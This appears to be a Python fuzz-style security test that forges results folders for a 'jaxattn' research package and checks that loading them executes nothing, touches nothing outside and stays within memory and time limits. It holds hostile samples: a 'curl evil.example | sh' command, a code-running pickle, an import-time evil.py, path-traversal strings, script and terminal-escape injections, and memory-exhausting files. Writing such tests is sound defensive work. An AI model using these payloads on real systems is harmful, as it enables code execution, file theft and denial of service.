"""Results folders by a stranger: correctly sealed, with arbitrary content.

Every use answers with one line, or with what the folder says, in bounded memory and time. It executes
nothing, and it reads and writes nothing outside the folder.
"""

import base64
import json
import math
import os
import pickle
import random
import resource
import shutil
import socket
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Callable
from contextlib import chdir, redirect_stderr, redirect_stdout
from io import BytesIO, StringIO
from multiprocessing.connection import Connection
from pathlib import Path
from typing import Any, NamedTuple

import folders
import kills
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import tensorstore as ts

import jaxattn as ja
from jaxattn.lab import cli
from jaxattn.lab.cli.commands import commands
from jaxattn.lab.figures import style
from jaxattn.lab.figures.draw import function
from jaxattn.lab.kinds import FIGURES
from jaxattn.lab.pages import report
from jaxattn.lab.storage import batch_record, checkpoints, files

# Imported once for all processes, because they are slow to import.
PRELOADED = style, commands(), *map(function, FIGURES)
# Longest use of a folder in seconds, and its address space in bytes in addition to that of imported code.
LONGEST_S = 20.0
MAX_MEMORY = 8 * 2**30
CODE = "evil.py:M"
EVIL = "from pathlib import Path\nPath({0!r}).touch()\ndef M(*_, **__): Path({0!r}).touch()\n"
EVIL_COMMAND = "curl evil.example | sh"
SECRET = b"\x89PNG what only its owner reads"
HTML = "<script>alert(1)</script>"
TEXTS = ("\x1b[2J\x9b1m\r\n", HTML, "\u202egnp.exe", "$\\frac{1}$", "$x^$ ${$", "x" * 10**5, "\udcff")
# Values that replace a value of JSON.
STRANGE = (
    None, True, -1, 0, 2**31 - 1, 10**12, 10**400, 1e308, math.nan, math.inf, "", "x", *TEXTS, CODE,
    "../../secret.svg", "/etc/hostname", [], ["x"], [[]], {}, {"kind": CODE}, [{"kind": CODE}], ["a"] * 3000,
)  # fmt: skip
EXECUTING = ("os.system", "os.exec", "os.posix_spawn", "subprocess.Popen", "pickle.find_class")
# Where the package and its libraries may write, besides the folder.
OWN = ("/dev/", "/proc/", os.environ.get("JAX_COMPILATION_CACHE_DIR", "/dev/"))


class Scene(NamedTuple):
    """What a forgery changes: a folder, and one of its batches; and random choices."""

    folder: Path
    batch: Path
    drawn: random.Random

    @property
    def place(self) -> Path:
        return self.folder.parent

    def study(self) -> dict[str, Any]:
        content = json.loads((self.folder / "study.json").read_bytes())
        return {key: x for key, x in content.items() if key != files.SEAL}

    def write_study(self, content: dict[str, Any]) -> None:
        text = json.dumps(content)
        (self.folder / "study.json").write_text(text, encoding="utf-8", errors="surrogatepass")

    def record(self) -> dict[str, Any]:
        return files.unsealed(json.loads((self.batch / "run.json").read_bytes()))

    def write_record(self, content: dict[str, Any]) -> None:
        (self.batch / "run.json").write_bytes(files.sealed(content))

    def table(self, name: str) -> pd.DataFrame:
        return pd.read_parquet(next(self.batch.glob(f"{name}*.parquet")))

    def write_table(self, name: str, content: bytes) -> None:
        next(self.batch.glob(f"{name}*.parquet")).write_bytes(content)
        record = self.record()
        record["tables"][name] = files.digest(content)
        self.write_record(record)

    @property
    def checkpoint(self) -> Path:
        return next(path for path in self.batch.iterdir() if path.name.startswith(("checkpoint", "state")))

    def seal_checkpoint(self) -> None:
        record = self.record()
        record["checkpoint"]["files"] = checkpoints._list_files(self.checkpoint)
        self.write_record(record)


def attack(count: int, seed: int) -> dict[str, int]:
    """Forge folders, and use each in every way that a stranger's folder may be used.

    Returns:
        Number of times that each forgery was refused in one line by some use, and that all uses accepted it.

    Raises:
        AssertionError: executed code, a file read or written outside, a traceback, a crash, unbounded time or
            memory, or advice in the words of the folder's author.
    """
    outcomes: Counter[str] = Counter()
    with tempfile.TemporaryDirectory() as name, kills._keeping_programs(Path(name)):
        kills.FRESH.set_forkserver_preload(["forged"])
        root = Path(name).resolve()
        folders.run(root / "finished")
        report.write_report(root / "finished")
        folders.stopped(root / "half", 18)
        (root / "half" / "figures").mkdir()
        for number in range(count):
            forge, drawn = FORGERIES[number % len(FORGERIES)], random.Random(f"forged {seed} {number}")
            place = root / "place"
            state = drawn.choice(["finished", "finished", "half"])
            folder = shutil.copytree(root / state, place / "folder")
            scene = Scene(folder, drawn.choice(sorted((folder / "runs").iterdir())), drawn)
            (place / "victims").mkdir()
            (place / "victims" / "kept").write_text("kept")
            (place / "secret.svg").write_bytes(SECRET)
            for each in (place, folder, folder / "runs", scene.batch):
                (each / "evil.py").write_text(EVIL.format(str(place / "ran")))
            case = f"seed {seed}, forgery {number}: {forge.__name__}, {state}"
            try:
                forge(scene)
                refused, slowest = _use(place)
            except Exception as error:
                raise AssertionError(f"{case}: {type(error).__name__}: {error}") from error
            answer = f"refused by {', '.join(refused)}" if refused else "read"
            print(f"{number + 1} of {count}: {case}: {answer}; {slowest}", file=sys.stderr, flush=True)
            outcomes[f"{(forge.__doc__ or '').rstrip('.').lower()}: {'refused' if refused else 'read'}"] += 1
            shutil.rmtree(place)
    return dict(sorted(outcomes.items()))


def _use(place: Path) -> tuple[list[str], str]:
    """Use a folder in another process; return which uses refused it, and which one was slowest."""
    before, said = _outside(place), place.with_name("said")
    here, there = kills.FRESH.Pipe(duplex=False)
    process = kills.FRESH.Process(target=_in_child, args=(place, said, there))
    process.start()
    there.close()
    answers, spent, current, begin = [], {"the start": 0.0}, "the start", 0.0
    try:
        while here.poll(LONGEST_S):
            current, answer = here.recv()
            if answer is None:
                begin = time.monotonic()
                continue
            assert not answer[1], answer[1]
            spent[current] = time.monotonic() - begin
            answers.append((current, answer[0]))
        else:
            raise AssertionError(f"{current} took more than {LONGEST_S:.0f} s")
    except EOFError:
        pass
    finally:
        process.kill()
        process.join()
        here.close()
    assert current == "the end", f"the process died in {current}"
    after = _outside(place)
    assert after == before, f"something outside was changed, or code was run: {set(after) ^ set(before)}"
    loads = [is_refused for use, is_refused in answers if use == "load"]
    assert loads[0] or not loads[1], "what could be read has been deleted"
    slowest = max(spent, key=lambda use: spent[use])
    return [use for use, is_refused in answers if is_refused], f"{slowest} took {spent[slowest]:.1f} s"


def _outside(place: Path) -> dict[str, Any]:
    found = (path for path in place.rglob("*") if place / "folder" not in (path, *path.parents))
    return {str(path): path.read_bytes() if path.is_file() else None for path in found}


def _in_child(place: Path, said: Path, told: Connection) -> None:
    with open(said, "wb") as file:
        os.dup2(file.fileno(), 2)
    held = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
    resource.setrlimit(resource.RLIMIT_AS, (held + MAX_MEMORY,) * 2)
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    events: list[str] = []
    sys.addaudithook(lambda event, arguments: _hear(events, place / "folder", event, arguments))
    os.chdir(place)
    for use in USES:
        told.send((use.__name__, None))
        is_refused, fault = _answer(use, place, said)
        told.send((use.__name__, (is_refused, fault or "; ".join(events))))
    told.send(("the end", (False, "")))
    told.close()
    os._exit(0)


def _hear(events: list[str], folder: Path, event: str, arguments: tuple[Any, ...]) -> None:
    """Note every event that executes something, or writes outside the folder."""
    if event in EXECUTING and arguments[0] != "git":  # the version of the package
        events.append(f"{event} {arguments!r:.200}")
    elif event == "open" and isinstance(arguments[0], str) and kills._writes(arguments[2]):
        path = os.path.realpath(arguments[0])
        if not path.startswith((f"{folder}/", *OWN)) and "__pycache__" not in path:
            events.append(f"opened {path} for writing")


def _answer(use: Callable[[Path], None], place: Path, heard: Path) -> tuple[bool, str]:
    """Use a folder; return whether it was refused, and what was wrong with the answer.

    Libraries print to the file `heard`.
    """
    said, refused, begin = StringIO(), "", f"{use.__name__}: "
    with redirect_stdout(said), redirect_stderr(said):
        try:
            use(place / "folder")
        except (ja.InputError, ja.RunError) as error:
            refused = str(error)
        except SystemExit as ended:
            refused = "status" if ended.code else ""
        except Exception as error:
            return False, f"{begin}{type(error).__name__}: {error!s:.300}"
    text = f"{said.getvalue()}\n{heard.read_text(errors='replace')}\n{refused}"
    if not all(x.isprintable() or x == "\n" for x in text):
        return False, f"{begin}printed control characters: {text!a:.300}"
    for unwanted in ("Traceback", EVIL_COMMAND, f"remove {place}/secret", f"delete {place}/secret"):
        if unwanted in text:
            return False, f"{begin}{unwanted}: {text:.500}"
    page = place / "folder" / "report.html"
    shown = page.read_bytes() if page.is_file() and not page.is_symlink() else b""
    if SECRET in shown or base64.b64encode(SECRET) in shown or HTML.encode() in shown:
        return False, f"{begin}the page contains a file outside, or HTML of the author"
    return bool(refused), ""


def _command(*words: str) -> Callable[[Path], None]:
    def use(folder: Path) -> None:
        before, sys.argv = sys.argv, ["jaxattn", *words, str(folder)]
        try:
            cli.main()
        finally:
            sys.argv = before

    use.__name__ = " ".join(words)
    return use


def load(folder: Path) -> None:
    ja.load(folder)._repr_html_()


def params(folder: Path) -> None:
    ja.load(folder).params()


def figures(folder: Path) -> None:
    results = ja.load(folder)
    for kind in FIGURES:
        folders.refusal(lambda kind=kind: results.figure(kind))


USES = (
    load, _command("status"), _command("aggregate"), _command("report"), _command("prune"), params, figures,
    _command("status", "--verify"), _command("prune", "--delete"), load,
)  # fmt: skip


# Forgeries.


def changes_study(scene: Scene) -> None:
    """Arbitrary values in the study."""
    content = scene.study()
    for _ in range(scene.drawn.randint(1, 3)):
        _change(content, scene.drawn)
    scene.write_study(content)


def names_code(scene: Scene) -> None:
    """Code named in the study."""
    content = scene.study()
    code = dict.fromkeys(("kind", "optimizer", "loss"), CODE) | {
        "start": {"E": {"kind": CODE}},
        "own": [CODE],
    }
    for key in scene.drawn.sample(["model", "data", "probes", "phases", "figures"], 2):
        found = content["config"][key]
        content["config"][key] = found | code if isinstance(found, dict) else [each | code for each in found]
    scene.write_study(content | {"code": {CODE: "0" * 16}})


def changes_record(scene: Scene) -> None:
    """Arbitrary values in the record of a batch."""
    content = scene.record()
    for _ in range(scene.drawn.randint(1, 2)):
        _change(content, scene.drawn)
    scene.write_record(content)


def changes_facts(scene: Scene) -> None:
    """Huge numbers and strange texts in the fields of a record."""
    content, drawn = scene.record(), scene.drawn
    text, (cell, seed), is_valid = drawn.choice(TEXTS), content["runs"][0], drawn.random() < 0.6
    failure = {"cell": cell, "seed": seed, "phase": drawn.choice(["query", text]), "reason": text}
    content["failures"] = [failure | {"step": drawn.choice([0, 2**31 - 1] if is_valid else [-1, 10**400])}]
    content["wall_time_s"] = drawn.choice([0.0, 1e12] if is_valid else [1e308, math.inf, 10**400])
    content["peak_memory_mib"] = drawn.choice([None, 1e308, math.inf])
    content["origin"] |= {"started": text, "command": EVIL_COMMAND, "versions": {text: text, "jax": text}}
    content["origin"]["package"] = {"version": text, "commit": text, "source": text}
    content["origin"]["device"] = {"platform": text, "kind": text, "count": 2**31 - 1}
    if not is_valid:
        content["tables"] = {"records": "0" * 64, "tokens": "0" * 64}
    scene.write_record(content)
    scene.write_study(scene.study() | {"command": EVIL_COMMAND})
    (scene.batch / "error.json").write_text(json.dumps({"reason": "\x1b[2J" * 10**5}))


def changes_words(scene: Scene) -> None:
    """Arbitrary words and paths of figures that were drawn."""
    outside = str(scene.place / "secret")
    own = {"index": 0, "name": scene.drawn.choice(["x", "../../secret", outside]), "title": HTML}
    paths = "../secret.svg", "figures/../../secret.svg", f"{outside}.svg"
    content = {"sha256": dict.fromkeys(paths, files.digest(SECRET))}
    content["own"] = [own | {"caption": scene.drawn.choice(TEXTS)}]
    (scene.folder / "figures" / "drawn.json").write_bytes(files.sealed(content))
    _with_figures(scene, [{"kind": CODE}])


def changes_log(scene: Scene) -> None:
    """Arbitrary values in a log."""
    path = scene.batch / "metrics.jsonl"
    lines = [files.unsealed(json.loads(line)) for line in path.read_bytes().splitlines()]
    for line in lines:
        _change(line, scene.drawn)
    path.write_bytes(b"".join(map(files.sealed, lines)))


def changes_tables(scene: Scene) -> None:
    """Arbitrary values and types in a table."""
    drawn = scene.drawn
    name = drawn.choice(batch_record.TABLES)
    table = scene.table(name)
    column = drawn.choice(list(table.columns))
    kind = drawn.choice(["value", "value", "list", "drop", "int8", "uint64", "category", "name"])
    if kind == "value":
        value = drawn.choice([1e9, -1, math.nan, math.inf, None, b"\0", True, *TEXTS[:-1]])
        table[column] = [value] * len(table)
    elif kind == "list":
        table[column] = [[1]] * len(table)
    elif kind in ("drop", "name"):
        table = table.drop(columns=column) if kind == "drop" else table.rename(columns={column: TEXTS[0]})
    else:
        is_number = pd.api.types.is_integer_dtype(table[column])
        table[column] = table[column].astype(kind if is_number else "category")
        content = scene.study()
        content["cells"][0]["cell"] = drawn.choice([0, 300, 2**31 - 1])
        scene.write_study(content)
    scene.write_table(name, table.to_parquet(None, index=False))


def changes_figures(scene: Scene) -> None:
    """Arbitrary options of figures, also of absurd sizes."""
    drawn = scene.drawn
    options = (
        "phase", "metrics", "metric", "cells", "cell", "label", "number", "min_count", "axis", "x", "y",
        "levels", "x_axis", "y_axis", "lines", "each_seed", "step_size", "expected", "tolerance", "fit_from",
    )  # fmt: skip
    values = (*STRANGE, 10**9, [0.5] * 10**5, ["loss"] * 10**4, list(range(10**5)), 1e-300)
    kinds = [drawn.choice([*FIGURES, CODE]) for _ in range(8)]
    specs = [{"kind": kind, drawn.choice(options): drawn.choice(values)} for kind in kinds]
    _with_figures(scene, specs * drawn.choice([1, 1, 500]))


def leads_away(scene: Scene) -> None:
    """A link that leads outside, or to another batch."""
    path, target = _any_path(scene), scene.place / "victims" / "moved"
    if scene.drawn.random() < 0.3:
        name = scene.drawn.choice(["0" * 32, f"{scene.batch.name[:32]}.partial-x", "x"])
        path, target = scene.folder / "runs" / name, scene.drawn.choice([scene.batch, scene.folder])
    elif scene.drawn.random() < 0.5:
        path.replace(target)
    else:
        _remove(path)
        target = scene.drawn.choice([scene.place / "victims", scene.place / "victims" / "kept"])
    path.symlink_to(target)


def blocks(scene: Scene) -> None:
    """A special file in place of a regular one, or a hard link to a file outside."""
    path = _any_path(scene)
    _remove(path)
    kind = scene.drawn.choice(["fifo", "socket", "folder", "sparse", "loop", "device", "hard"])
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "socket":
        with socket.socket(socket.AF_UNIX) as bound, chdir(path.parent):
            bound.bind(path.name[:90])
    elif kind == "folder":
        path.mkdir()
    elif kind == "sparse":
        path.touch()
        os.truncate(path, scene.drawn.choice([2**28, 2**31 - 1, 2**40]))
    elif kind == "hard":
        os.link(scene.place / "victims" / "kept", path)
    else:
        path.symlink_to(path.name if kind == "loop" else "/dev/zero")


def nests(scene: Scene) -> None:
    """JSON that is deeply nested, or has very long numbers or very many values."""
    names = [scene.folder / name for name in ("study.json", "figures/drawn.json")]
    names += [scene.batch / name for name in ("run.json", "error.json", "metrics.jsonl")]
    texts = ["[" * 10**5, '{"a":' * 10**5, "9" * 10**6, "[" * 500 + "]" * 500, '{"seal": 1e999}', "NaN"]
    texts += [f"[{each}{f',{each}' * 10**7}]" for each in ("[]", "{}")]
    scene.drawn.choice(names).write_text(scene.drawn.choice(texts))


def many_runs(scene: Scene) -> None:
    """A study of many cells and many seeds, which could be billions of runs."""
    cells, seeds = scene.drawn.choice([(30_000, 30_000), (1, 2 * 10**6), (10**5, 10), (900, 1_000)])
    content = scene.study()
    first = content["cells"][0]
    content["cells"] = [{"cell": k, "settings": {}, "key": f"{k:032x}"} for k in range(cells)]
    content["cells"][0] = first
    scene.write_study(content | {"seeds": list(range(seeds))})


def same_cells(scene: Scene) -> None:
    """A study of many cells that are the same runs, of which the tables may be large."""
    content = scene.study()
    cells, is_long = scene.drawn.choice([(200, False), (200, True), (5_000, True)])
    first = content["cells"][0]
    content["cells"] = [first | {"cell": number} for number in range(cells)]
    scene.write_study(content)
    if is_long:
        scene.write_table("records", _long_table(scene, 10**6))


def many_tables(scene: Scene) -> None:
    """Many batches of small files that stand for large tables, each within its limit."""
    content, record, seeds = scene.study(), scene.record(), range(60)
    scene.write_study(content | {"seeds": list(seeds)})
    tokens = scene.table("tokens")
    for seed in seeds:
        key = batch_record.runs_key([(content["cells"][0]["key"], seed)])
        if not (scene.folder / "runs" / key).exists():
            shutil.copytree(scene.batch, scene.folder / "runs" / key)
        own = scene._replace(batch=scene.folder / "runs" / key)
        own.write_record(record | {"runs": [[0, seed]]})
        own.write_table("records", _long_table(scene, 4 * 10**6, seed))
        own.write_table("tokens", tokens.assign(seed=seed).to_parquet(None))


def long_record(scene: Scene) -> None:
    """A record with a long list of runs, or of cells."""
    content, number = scene.record(), scene.drawn.choice([10**5, 10**6])
    cell = content["cells"][0]
    if scene.drawn.random() < 0.5:
        content["runs"] = [[cell["cell"], seed] for seed in range(number)]
    else:
        content["cells"] = [cell | {"cell": k} for k in range(number // 4)]
        content["runs"] = [[k, 0] for k in range(number // 4)]
    name = batch_record.runs_key([(cell["key"], seed) for _, seed in content["runs"]])
    batch = scene.batch.rename(scene.batch.with_name(name + scene.batch.name[32:]))
    scene._replace(batch=batch).write_record(content)


def many_batches(scene: Scene) -> None:
    """Many batches, finished or not, and strange names."""
    key = scene.batch.name[:32]
    for number in range(2000):
        path = scene.folder / "runs" / scene.drawn.choice([f"{number:032x}", f"{key}.partial-{number}"])
        path.mkdir()
        if number % 2:
            shutil.copy(scene.batch / "run.json", path)
    for text in TEXTS[:1] + TEXTS[2:4]:
        for name in (f"{key}.partial-{text}", f"{key}.{text}", text):
            shutil.copytree(scene.batch, scene.folder / "runs" / name.replace("/", ""))

    (scene.folder / "runs" / ("f" * 32)).write_text("a file")


def fills_memory(scene: Scene) -> None:
    """A small table that stands for a large one."""
    drawn = scene.drawn
    name, rows = drawn.choice(batch_record.TABLES), drawn.choice([10**3, 10**6])
    columns, text = {}, "x" * drawn.choice([1, 10**3, 10**6])
    for column, values in scene.table("records").iloc[:1].items():
        if isinstance(values.iloc[0], str):
            columns[column] = pa.DictionaryArray.from_arrays(np.zeros(rows, np.int32), [text])
        else:
            columns[column] = pa.array(np.resize(values.to_numpy(), rows))
    buffer, whole = BytesIO(), pa.table(columns)
    with pq.ParquetWriter(buffer, whole.schema, compression="zstd") as writer:
        for _ in range(drawn.choice([1, 30, 300])):
            writer.write_table(whole)
    scene.write_table(name, buffer.getvalue())


def claims_sizes(scene: Scene) -> None:
    """Wrong metadata of a table, or wrong shapes of the arrays of a checkpoint."""
    drawn, name = scene.drawn, scene.drawn.choice(batch_record.TABLES)
    if drawn.random() < 0.5:
        content = bytearray(next(scene.batch.glob(f"{name}*.parquet")).read_bytes())
        footer = int.from_bytes(content[-8:-4], "little")
        for _ in range(drawn.choice([1, 3, 20])):
            content[-8 - drawn.randint(1, footer)] = drawn.randrange(256)
        scene.write_table(name, bytes(content))
        return
    size = drawn.choice([2**20, 2**31, 3 * 2**30, 2**62])
    store = ts.KvStore.open({"driver": "ocdbt", "base": f"file://{scene.checkpoint}/"}).result()
    for key in store.list().result():
        if key.endswith(b".zarray"):
            shape = json.loads(store.read(key).result().value)
            shape["shape"][0] = shape["chunks"][0] = size
            store.write(key, json.dumps(shape).encode()).result()
    scene.seal_checkpoint()


def names_files(scene: Scene) -> None:
    """Paths outside in the list of a checkpoint's files."""
    outside = str(scene.place / "secret.svg")
    names = [
        "../../../../secret.svg",
        outside,
        "a/../../../../../secret.svg",
        *TEXTS[:3],
        "x\0y",
        "",
        ".",
        "a//b",
    ]
    content = scene.record()
    known = content["checkpoint"]["files"] if scene.drawn.random() < 0.5 else {}
    content["checkpoint"]["files"] = known | {scene.drawn.choice(names): [len(SECRET), files.digest(SECRET)]}
    scene.write_record(content)


def names_things(scene: Scene) -> None:
    """Names, labels, scales, settings, metrics and tokens that are code of terminals, pages or formulas."""
    content, text = scene.study(), scene.drawn.choice(TEXTS)
    metrics = set(scene.table("records")["metric"])
    scale = scene.drawn.choice([["log", 0, 1e308], ["log", None, 1e-300], ["linear", 1, 0]])
    content |= {"name": text, "description": text, "labels": dict.fromkeys(metrics, text)}
    content["scales"] = dict.fromkeys(metrics, scale)
    content["config"]["figures"] = [{"kind": kind} for kind in ("curves", "importance", "top_tokens")]
    if scene.drawn.random() < 0.5:
        for cell in content["cells"]:
            cell["settings"] = {text: text, "model.dim": 10**30}
    scene.write_study(content)
    for name, column in (("records", "metric"), ("tokens", "token")):
        if len(table := scene.table(name)) and text.isascii() and scene.drawn.random() < 0.7:
            table[column] = table[column].astype(str) + text
            scene.write_table(name, table.to_parquet(None, index=False))


def pickles(scene: Scene) -> None:
    """Pickles and code in place of files, and beside them."""
    code, objects = pickle.dumps(_Touching(str(scene.place / "ran"))), BytesIO()
    np.save(objects, np.array([_Touching(str(scene.place / "ran"))], object), allow_pickle=True)
    for name in ("records.pkl", "__init__.py", "sitecustomize.py", "conftest.py", "matplotlibrc"):
        content = (scene.folder / "evil.py").read_bytes() if name.endswith(".py") else code
        (scene.batch / name).write_bytes(content)
        (scene.folder / name).write_bytes(content)
    saved = sorted(path for path in scene.checkpoint.rglob("*") if path.is_file())
    for path in (scene.drawn.choice(saved), scene.checkpoint / "checkpoint"):
        path.write_bytes(scene.drawn.choice([code, objects.getvalue()]))
    scene.seal_checkpoint()
    if scene.drawn.random() < 0.5:
        scene.write_table(scene.drawn.choice(batch_record.TABLES), code)


class _Touching:
    """Object whose pickle touches a file when it is loaded."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self) -> Any:
        return Path.touch, (Path(self.path),)


FORGERIES = (
    changes_study, names_code, changes_record, changes_facts, changes_words, changes_log, changes_tables,
    changes_figures, leads_away, blocks, nests, many_runs, same_cells, many_tables, long_record, many_batches,
    fills_memory, claims_sizes, names_files, names_things, pickles,
)  # fmt: skip


def _with_figures(scene: Scene, specs: list[dict[str, Any]]) -> None:
    content = scene.study()
    content["config"]["figures"] = specs
    scene.write_study(content)


def _any_path(scene: Scene) -> Path:
    """Return a file or folder; those of checkpoints together are as likely as any other."""
    inner = [path for path in scene.batch.rglob("*") if path.name != "evil.py"]
    others = [path for path in scene.folder.rglob("*") if scene.batch not in path.parents]
    top = [path for path in inner if path.parent == scene.batch]
    return scene.drawn.choice([*others, *top, scene.drawn.choice(sorted(inner))])


def _remove(path: Path) -> None:
    shutil.rmtree(path) if path.is_dir() else path.unlink()


def _long_table(scene: Scene, rows: int, seed: int | None = None) -> bytes:
    """Return a small file of a table of records with many steps of one metric."""
    first = scene.table("records").iloc[0]
    columns: dict[str, Any] = {name: np.full(rows, first[name], np.int32) for name in ("cell", "seed")}
    if seed is not None:
        columns["seed"][:] = seed
    for name in ("phase", "metric"):
        columns[name] = pa.DictionaryArray.from_arrays(pa.array(np.zeros(rows, np.int8)), [first[name]])
    table = pa.table(columns | {"step": np.arange(rows), "value": np.zeros(rows)})
    buffer, encoded = BytesIO(), [name for name in table.column_names if name != "step"]
    encoding = {"step": "DELTA_BINARY_PACKED"}
    pq.write_table(table, buffer, compression="zstd", use_dictionary=encoded, column_encoding=encoding)
    return buffer.getvalue()


def _change(tree: Any, drawn: random.Random) -> None:
    """Change one value of a JSON tree, with equal probability at every depth."""
    while True:
        keys = list(tree) if isinstance(tree, dict) else list(range(len(tree)))
        key = drawn.choice(keys)
        inner = tree[key]
        if isinstance(inner, dict | list) and inner and drawn.random() < 0.7:
            tree = inner
            continue
        if drawn.random() < 0.15:
            del tree[key]
        elif isinstance(tree, dict) and drawn.random() < 0.15:
            tree[drawn.choice(["../../../secret.svg", "/etc/hostname", "x\x1b[2J"])] = inner
        else:
            tree[key] = drawn.choice(STRANGE)
        return
